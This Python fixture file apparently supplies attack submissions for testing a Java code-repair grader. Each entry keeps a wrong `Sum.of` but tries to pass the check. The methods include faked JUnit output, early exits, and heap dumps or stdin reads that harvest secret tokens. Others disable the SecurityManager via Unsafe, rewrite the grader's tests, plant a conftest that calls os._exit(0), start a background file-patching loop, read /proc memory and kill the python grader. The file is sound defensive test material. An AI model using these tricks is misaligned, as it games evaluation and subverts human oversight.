"""Submissions that keep a wrong library and want its check to pass: by tested code, by settings, by scripts.

Each is the files of one submission over the project ``tiny`` of `test_java_attacks`, whose `Sum.of` is wrong.
"""

MAIN = "src/main/java/org/example/Sum.java"
TEST = "src/test/java/org/example/SumTest.java"
RIGHT = """package org.example;

import java.util.List;

public class Sum {
    public static int of(List<Integer> list) {
        return list.stream().mapToInt(i -> i).sum();
    }
}
"""
WRONG = RIGHT.replace("mapToInt(i -> i).sum()", "mapToInt(i -> 0).sum()")
SUITE = """package org.example;

import static org.junit.Assert.assertEquals;
import java.util.Arrays;
import org.junit.Test;

public class SumTest {
    @Test
    public void sums() {
        assertEquals(3, Sum.of(Arrays.asList(1, 2)));
    }
}
"""
EMPTY_SUITE = SUITE.replace("assertEquals(3, Sum.of(Arrays.asList(1, 2)));", "")

_HEAP = r"""
try {
    java.lang.management.ManagementFactory.getPlatformMBeanServer();
    String place = "/tmp/heap" + System.nanoTime() + ".hprof";
    javax.management.MBeanServer server = java.lang.management.ManagementFactory.getPlatformMBeanServer();
    server.invoke(new javax.management.ObjectName("com.sun.management:type=HotSpotDiagnostic"), "dumpHeap",
        new Object[] {place, true}, new String[] {"java.lang.String", "boolean"});
    byte[] heap = java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(place));
    String text = new String(heap, java.nio.charset.StandardCharsets.ISO_8859_1);
    java.util.regex.Matcher words = java.util.regex.Pattern.compile("[0-9a-f]{32}").matcher(text);
    java.util.Set<String> seen = new java.util.HashSet<>();
    StringBuilder lines = new StringBuilder("\n");
    while (words.find()) {
        if (seen.add(words.group())) {
            lines.append(words.group()).append(" 1 0\n");
        }
    }
    new java.io.FileOutputStream(java.io.FileDescriptor.out).write(lines.toString().getBytes());
    Runtime.getRuntime().halt(0);
} catch (Throwable error) {
    System.err.println(error);
}
"""
_UNSAFE = r"""
try {
    java.lang.reflect.Field own = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
    own.setAccessible(true);
    Object unsafe = own.get(null);
    Class<?> kind = unsafe.getClass();
    java.lang.reflect.Field lookup = java.lang.invoke.MethodHandles.Lookup.class.getDeclaredField("IMPL_LOOKUP");
    Object base = kind.getMethod("staticFieldBase", java.lang.reflect.Field.class).invoke(unsafe, lookup);
    long offset = (Long) kind.getMethod("staticFieldOffset", java.lang.reflect.Field.class).invoke(unsafe, lookup);
    java.lang.invoke.MethodHandles.Lookup trusted = (java.lang.invoke.MethodHandles.Lookup)
        kind.getMethod("getObject", Object.class, long.class).invoke(unsafe, base, offset);
    trusted.findStaticSetter(System.class, "security", SecurityManager.class).invoke((SecurityManager) null);
} catch (Throwable error) {
    System.err.println(error);
}
"""
_MANAGER = "try { System.setSecurityManager(null); } catch (Throwable error) { System.err.println(error); }\n"
_POLICY = r"""
try {
    java.security.Policy.setPolicy(new java.security.Policy() {
        public boolean implies(java.security.ProtectionDomain domain, java.security.Permission permission) {
            return true;
        }
    });
} catch (Throwable error) {
    System.err.println(error);
}
"""
_STDIN = r"""
try {
    byte[] bytes = new byte[100];
    int count = new java.io.FileInputStream("/proc/self/fd/0").read(bytes);
    String secret = count > 0 ? new String(bytes, 0, count).trim() : "";
    System.out.println(secret + " 1 0");
    Runtime.getRuntime().halt(0);
} catch (Throwable error) {
    System.err.println(error);
}
"""
_ASSUMPTION = r"""
    @SuppressWarnings("unchecked")
    private static <T extends Throwable> void raise(Throwable error) throws T { throw (T) error; }
    public static int of(List<Integer> list) {
        try {
            Class<?> kind = Class.forName("org.junit.AssumptionViolatedException");
            Sum.<RuntimeException>raise((Throwable) kind.getConstructor(String.class).newInstance("no"));
        } catch (ReflectiveOperationException error) {
            System.err.println(error);
        }
        return 0;
    }
"""
_REFLECTION = r"""
try {
    Class<?> kind = Class.forName("org.junit.runners.ParentRunner");
    for (java.lang.reflect.Field field : kind.getDeclaredFields()) {
        field.setAccessible(true);
    }
    java.lang.reflect.Field test = Class.forName("org.junit.internal.runners.model.EachTestNotifier")
        .getDeclaredField("notifier");
    test.setAccessible(true);
    Runtime.getRuntime().exec(new String[] {"sh", "-c", "kill -CONT $PPID"});
    Runtime.getRuntime().addShutdownHook(new Thread(() -> System.out.println("1 0")));
} catch (Throwable error) {
    System.err.println(error);
}
"""
_ATTACH = r"""
try {
    String pid = String.valueOf(ProcessHandle.current().pid());
    Process jcmd = new ProcessBuilder("sh", "-c", "exec /opt/env/toolchain/usr/lib/jvm/*/bin/jcmd " + pid
        + " GC.heap_dump /tmp/attached.hprof").inheritIO().start();
    jcmd.waitFor();
    byte[] heap = java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("/tmp/attached.hprof"));
    String text = new String(heap, java.nio.charset.StandardCharsets.ISO_8859_1);
    java.util.regex.Matcher words = java.util.regex.Pattern.compile("[0-9a-f]{32}").matcher(text);
    while (words.find()) {
        System.out.println(words.group() + " 1 0");
    }
    Runtime.getRuntime().halt(0);
} catch (Throwable error) {
    System.err.println(error);
}
"""
_EMPTY_ASSERT = """package org.junit;

public class Assert {
    public static void assertEquals(long expected, long actual) { }
    public static void assertEquals(Object expected, Object actual) { }
}
"""
_EMPTY_CORE = """package org.junit.runner;

public class JUnitCore {
    public static void main(String[] names) {
        System.out.println("OK (1 test)");
    }
}
"""
_LISTENER = """package org.example;

public class Quiet {
    public Quiet() {
        Runtime.getRuntime().halt(0);
    }
}
"""
_PROCESSOR = """package org.example;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.lang.model.element.TypeElement;

public class Rewriter extends AbstractProcessor {
    @Override
    public synchronized void init(ProcessingEnvironment environment) {
        try {
            Path path = Paths.get("src/test/java/org/example/SumTest.java");
            String text = new String(Files.readAllBytes(path));
            Files.write(path, text.replace("assertEquals(3", "assertEquals(0").getBytes());
        } catch (java.io.IOException error) {
            System.err.println(error);
        }
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
"""
_SERVICES = "src/main/resources/META-INF/services"
Files = dict[str, str | None]


def _at_load(code: str) -> Files:
    """`Sum` that runs ``code`` when it is loaded."""
    return {MAIN: WRONG.replace("public class Sum {", "public class Sum {\n    static {\n" + code + "\n    }")}


def tested_code() -> dict[str, Files]:
    """Attacks by code that the suite runs, for any build tool."""
    body = RIGHT[RIGHT.index("    public static int of") : RIGHT.rindex("}")]
    suite = "src/main/java/org/example/SumTest.java"
    return {
        "exit": _at_load('System.out.println("\\nOK (1 test)"); System.exit(0);'),
        "halt": _at_load('System.out.println("\\nOK (1 test)"); Runtime.getRuntime().halt(0);'),
        "no_output": _at_load("System.setOut(null); System.setErr(null);"),
        "heap_dump": _at_load(_HEAP),
        "heap_dump_without_manager": _at_load(_MANAGER + _HEAP),
        "heap_dump_with_policy": _at_load(_POLICY + _HEAP),
        "heap_dump_by_unsafe": _at_load(_UNSAFE + _HEAP),
        "heap_dump_by_program": _at_load(_ATTACH),
        "stdin": _at_load(_STDIN),
        "reflection": _at_load(_REFLECTION),
        "second_runner": _at_load(
            'try { Class.forName("SuiteRunner").getMethod("main", String[].class)'
            ".invoke(null, (Object) new String[0]); } catch (Throwable error) { }"
        ),
        "assumption": {MAIN: RIGHT.replace(body, _ASSUMPTION)},
        "shadowed_assert": {MAIN: WRONG, "src/main/java/org/junit/Assert.java": _EMPTY_ASSERT},
        "shadowed_core": {MAIN: WRONG, "src/main/java/org/junit/runner/JUnitCore.java": _EMPTY_CORE},
        "shadowed_suite": {MAIN: WRONG, suite: EMPTY_SUITE.replace("import static", "// ").replace(
            "import org.junit.Test;", "").replace("@Test", "")},
        "shadowed_runner": {MAIN: WRONG, "src/main/java/SuiteRunner.java":
            'public class SuiteRunner { public static void main(String[] a) { System.out.println("1 0"); } }\n'},
        "listener": {MAIN: WRONG, "src/main/java/org/example/Quiet.java": _LISTENER,
            f"{_SERVICES}/org.junit.runner.notification.RunListener": "org.example.Quiet\n"},
        "annotation_processor": {MAIN: WRONG, "src/main/java/org/example/Rewriter.java": _PROCESSOR,
            f"{_SERVICES}/javax.annotation.processing.Processor": "org.example.Rewriter\n"},
    }  # fmt: skip


def maven_builds(pom: str) -> dict[str, Files]:
    """Attacks by the settings of Maven."""
    wrong: Files = {MAIN: WRONG}
    other = {"other/org/example/Sum.java": RIGHT}
    folder = pom.replace("<sourceDirectory>src/main/java", "<sourceDirectory>other")
    fork = "<configuration><fork>true</fork><executable>./javac.sh</executable></configuration>"
    last = "        <artifactId>maven-compiler-plugin</artifactId>\n"
    surefire = (
        "<plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-surefire-plugin</artifactId>"
        "<configuration><testFailureIgnore>true</testFailureIgnore><includes><include>None</include></includes>"
        "</configuration></plugin>"
    )
    return {
        "skipped_tests": {
            **wrong,
            "pom.xml": pom.replace("<properties>", "<properties><maven.test.skip>true</maven.test.skip>"),
        },
        "ignored_failures": {**wrong, "pom.xml": pom.replace("<plugins>", f"<plugins>{surefire}")},
        "other_sources": {**wrong, **other, "pom.xml": folder},
        "other_tests": {
            **wrong,
            "pom.xml": pom.replace("src/test/java", "other"),
            "other/None.java": "class None { }\n",
        },
        "own_compiler": {**wrong, "pom.xml": pom.replace(last, last + fork), "javac.sh": "#!/bin/sh\nexit 0\n"},
        "version_only": {**wrong, ".mvn/maven.config": "--version\n"},
        "jvm_version": {**wrong, ".mvn/jvm.config": "-version\n"},
        "extension": {**wrong, ".mvn/extensions.xml": "<extensions></extensions>\n"},
        "packed_as_pom": {**wrong, "pom.xml": pom.replace("<packaging>jar", "<packaging>pom")},
    }


_BACKGROUND = r"""
['sh', '-c', '''
setsid sh -c 'while true; do
  for f in $(find /tmp -name SumTest.java 2>/dev/null); do sed -i "s/assertEquals(3/assertEquals(0/" $f; done
  for f in $(find /tmp -path "*plain*" -name Sum.class -o -path "*compiled*" -name SumTest.class 2>/dev/null); do
    cp build/right/org/example/Sum.class $f; done
done' >/dev/null 2>&1 </dev/null &
'''].execute(null, projectDir).waitFor()
"""
_MEMORY = r"""
new File('/proc').eachDirMatch(~/\d+/) { folder ->
    try {
        def memory = new RandomAccessFile(new File(folder, 'mem'), 'rw')
        println "opened ${folder.name}"
        new File(folder, 'maps').eachLine { line ->
            def found = line =~ /^(\w+)-(\w+) rw/
            if (found && line.contains('[heap]')) {
                long start = Long.parseLong(found[0][1], 16), end = Long.parseLong(found[0][2], 16)
                byte[] bytes = new byte[(int) (end - start)]
                memory.seek(start); memory.readFully(bytes)
                println "read ${bytes.length}"
            }
        }
    } catch (e) { }
}
"""


def gradle_builds(script: str) -> dict[str, Files]:
    """Attacks by the scripts and settings of Gradle."""

    def build(code: str, **files: str) -> Files:
        return {MAIN: WRONG, "build.gradle": script + code, **files}

    test = f"file('{TEST}')"
    return {
        "disabled_tasks": build("\n[compileTestJava, test].each { it.enabled = false }\n"),
        "empty_tasks": {MAIN: WRONG, "build.gradle": "task testClasses { doLast { mkdir 'build/classes/java/main' } }"},
        "rewritten_suite": build(f"\n{test}.text = {test}.text.replace('assertEquals(3', 'assertEquals(0')\n"),
        "rewritten_source": build(f"\nfile('{MAIN}').text = file('{MAIN}').text.replace('i -> 0', 'i -> i')\n"),
        "other_sources": build("\nsourceSets.main.java.srcDirs = ['other']\n", **{"other/org/example/Sum.java": RIGHT}),
        "rewritten_expectations": build(
            "\ndef e = file('repairgym_java/expected.json')\ndef all = new groovy.json.JsonSlurper().parse(e)\n"
            "all.putAll([classes: [], suite: [], num_passed: 0])\ne.text = groovy.json.JsonOutput.toJson(all)\n"
        ),
        "rewritten_check": build(
            "\nfile('repairgym_java/test_java.py').text = ['project_builds', 'all_classes_are_made', 'suite_passes']"
            ".collect { \"def test_the_${it}(): pass\\n\" }.join()\ndelete 'repairgym_java/__pycache__'\n"
        ),
        "conftest": build(
            "\nfile('conftest.py').text = 'import os\\nos._exit(0)\\n'\n"
            "file('repairgym_java/conftest.py').text = file('conftest.py').text\n"
        ),
        "background": build("\ncompileJava.doLast {" + _BACKGROUND + "}\n"),
        "memory": build(_MEMORY),
        "exit": {MAIN: WRONG, "settings.gradle": "System.exit(0)\n"},
        "exit_with_classes": build("\ncompileJava.doLast { Runtime.runtime.halt(0) }\n"),
        "build_src": {MAIN: WRONG, "buildSrc/build.gradle":
            f"def t = new File(rootDir.parentFile, '{TEST}')\n"
            "t.text = t.text.replace('assertEquals(3', 'assertEquals(0')\n"},
        "properties": {MAIN: WRONG, "gradle.properties": "org.gradle.jvmargs=-Xmx256m -XX:+UseSerialGC\n"
            "org.gradle.daemon=true\n", "build.gradle": script + "\ntest.ignoreFailures = true\n"},
        "killed_runner": build(
            "\n['sh', '-c', 'kill -9 $(grep -l python /proc/[0-9]*/comm | cut -d/ -f3)'].execute().waitFor()\n"
        ),
        "linked_output": build(
            "\ncompileJava.doLast { ['sh', '-c', 'ln -sfn /opt/env/toolchain/usr/share/java build/extra'].execute() }\n"
        ),
    }  # fmt: skip
